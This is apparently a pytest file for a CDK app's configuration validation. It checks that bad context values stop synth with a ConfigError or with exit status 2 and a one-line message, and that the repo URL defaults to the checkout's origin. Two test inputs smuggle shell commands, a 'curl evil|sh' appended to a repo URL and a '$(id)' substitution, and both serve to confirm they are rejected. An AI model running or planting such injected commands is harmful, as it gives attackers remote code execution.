"""app.py and build_app: a bad setting stops synth with one line and exit status 2."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from training.errors import ConfigError

ROOT = Path(__file__).resolve().parents[2]


def test_bad_value_fails_synth_through_the_app() -> None:
    from stacks.spotgrade_stack import build_app

    with pytest.raises(ConfigError, match="context key 'repoUrl'"):
        build_app({"repoUrl": "https://x/y.git;curl evil|sh"}, repo_dir=None, resolve=None)


def test_app_py_exits_2_with_one_line(tmp_path: Path) -> None:
    context = json.dumps({"instanceTypes": "p3.2xlarge,$(id)"})
    done = subprocess.run([sys.executable, "app.py"], cwd=ROOT, capture_output=True, text=True,
                          env={"PATH": "/usr/bin:/bin", "CDK_CONTEXT_JSON": context,
                               "CDK_OUTDIR": str(tmp_path), "JSII_SILENCE_WARNING_END_OF_LIFE_NODE_VERSION": "20"})
    assert done.returncode == 2
    assert done.stderr.startswith("error: context key 'instanceTypes': '$(id)' is not allowed; expected ")
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr


def test_repo_url_defaults_to_the_checkouts_origin(tmp_path: Path) -> None:
    from stacks.spotgrade_stack import build_app

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    subprocess.run(["git", "-C", str(tmp_path), "remote", "add", "origin", "git@git.example.com:team/sg.git"],
                   check=True)
    _, stack = build_app({}, repo_dir=tmp_path, nag=False, resolve=None)
    assert stack.config.repo_url == "https://git.example.com/team/sg.git"
    _, stack = build_app({}, repo_dir=None, nag=False, resolve=None)
    assert stack.config.repo_url is None
